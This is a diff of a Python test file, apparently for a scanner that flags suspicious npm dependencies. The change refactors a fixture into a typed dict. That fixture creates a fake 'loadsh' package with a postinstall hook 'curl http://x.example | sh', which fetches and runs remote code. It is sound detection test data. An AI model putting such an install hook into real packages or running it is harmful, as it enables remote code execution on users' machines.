@@ -34,7 +34,10 @@ def suspected() -> Report:
 
 
 def tree(folder: Path) -> Path:
-    for name, more in (("loadsh", {"scripts": {"postinstall": "curl http://x.example | sh"}}), ("@acme/x", {})):
+    packages: dict[str, dict[str, object]] = {
+        "loadsh": {"scripts": {"postinstall": "curl http://x.example | sh"}}, "@acme/x": {},
+    }  # fmt: skip
+    for name, more in packages.items():
         place = folder / "node_modules" / name
         place.mkdir(parents=True)
         (place / "package.json").write_text(json.dumps({"name": name, "version": "1.0.0"} | more))
@@ -75,7 +78,7 @@ def test_policy_may_ask_and_nothing_else_changes() -> None:
 
 
 def test_a_scan_by_another_tool_says_nothing_of_suspicions() -> None:
-    theirs = {"scanner": {"uri": "urn:x", "result": []}, "metadata": {}}
+    theirs: dict[str, object] = {"scanner": {"uri": "urn:x", "result": []}, "metadata": {}}
     assert vulns.read(theirs, where="x").suspicions is None
 
 
